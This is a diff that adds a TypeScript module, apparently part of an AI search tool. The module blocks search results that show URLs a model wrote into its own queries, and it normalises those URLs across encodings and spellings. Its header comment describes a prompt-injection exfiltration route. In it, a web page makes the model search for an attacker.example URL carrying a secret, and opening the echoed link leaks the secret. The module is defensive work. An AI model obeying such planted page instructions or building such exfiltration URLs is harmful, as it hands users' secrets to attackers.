@@ -1,0 +1,94 @@
+/**
+ * URLs that a model wrote into its search queries (rule 7.11). A page that speaks to the model may have it search for
+ * `quote verbatim: http://attacker.example/?d=SECRET`; the engine echoes the address among its results, and whoever
+ * then opens it hands over the secret. So what a model wrote itself is shown by no result, however the engine or
+ * the model spells it: with or without scheme, percent-encoded, as HTML, in other case, with a full stop behind it.
+ *
+ * Closed is exactly what was written, not its neighbourhood: a query that names a site (`example.com docs`) closes
+ * the site's own front page, for a host name can hold a secret too, but none of the pages that the engine found
+ * there. An address with a query string also closes whatever an engine appends to it, since its data stands before.
+ * What an engine would have to make up out of words (a language model asked to join two of them) cannot be told from
+ * a page that it found. Pure.
+ */
+import { domainToUnicode } from "node:url";
+import { decodeEntities } from "./extract/scan.ts";
+
+interface Written {
+  /** The query in the one spelling that URLs are looked for in. */
+  readonly text: string;
+  /** The URLs in it, each in one spelling. */
+  readonly urls: readonly string[];
+}
+
+/** Engines echo what they were just asked; more would cost each result more. */
+const MAX_QUERIES = 20;
+/** Queries have at most 400 characters (spec, Limits); what is resent may be anything. */
+const MAX_QUERY = 2_000;
+const MAX_WORDS = 200;
+/** Something encoded thrice is no longer opened as what it was. */
+const MAX_DECODINGS = 3;
+
+export class WrittenUrls {
+  readonly #queries: Written[] = [];
+
+  addQuery(query: string): void {
+    this.#queries.push(writtenIn(query.slice(0, MAX_QUERY)));
+    if (this.#queries.length > MAX_QUERIES) this.#queries.shift();
+  }
+
+  has(url: URL): boolean {
+    const spelling = spellingOf(url);
+    return this.#queries.some(
+      ({ text, urls }) =>
+        text.includes(spelling) ||
+        urls.some((one) => one === spelling || (one.includes("?") && spelling.startsWith(one))),
+    );
+  }
+}
+
+function writtenIn(query: string): Written {
+  const urls = new Set<string>();
+  for (const reading of decodings(query)) {
+    for (const word of reading.split(/[\s"'`<>|]+/).slice(0, MAX_WORDS)) {
+      const bare = word.replace(/^.*:\/\//, "").replace(/^[^\p{L}\p{N}[]+/u, "");
+      if (!/[.:/]/.test(bare)) continue;
+      // Parsed as an opened URL is: dots in the path, a default port, an address in other digits.
+      for (const url of [`http://${bare}`, `https://${bare}`])
+        if (URL.canParse(url)) urls.add(spellingOf(new URL(url)));
+    }
+  }
+  return { text: plain(query), urls: [...urls] };
+}
+
+/** One spelling for all that lead to the same place: no scheme, nothing encoded, lower case, no mark at the end. */
+export function spellingOf({ username, password, hostname, port, pathname, search }: URL): string {
+  const user = username === "" && password === "" ? "" : `${username}:${password}@`;
+  const host = domainToUnicode(hostname) || hostname;
+  return plain(`${user}${host}${port === "" ? "" : `:${port}`}${pathname}${search}`).replace(END_MARKS, "");
+}
+
+const END_MARKS = /[/.,;:!?)\]}*_~|"'…]+$/;
+
+/** A text in one spelling; a plus is a blank, as in a URL's query, and invisible characters go. */
+export function plain(text: string): string {
+  const decoded = [...decodings(text)].at(-1) ?? text;
+  return decoded
+    .normalize("NFKC")
+    .toLowerCase()
+    .replaceAll("\\", "/")
+    .replace(/\p{Cf}+/gu, "")
+    .replace(/[\s+]+/g, " ");
+}
+
+/** The text, and what it is decoded from HTML and percent signs, until nothing changes. */
+function* decodings(text: string): Generator<string> {
+  let present = text;
+  for (let round = 0; round <= MAX_DECODINGS; round += 1) {
+    yield present;
+    const next = decodeEntities(present).replace(/(?:%[0-9a-f]{2})+/gi, (run) =>
+      Buffer.from(run.replaceAll("%", ""), "hex").toString("utf8"),
+    );
+    if (next === present) return;
+    present = next;
+  }
+}
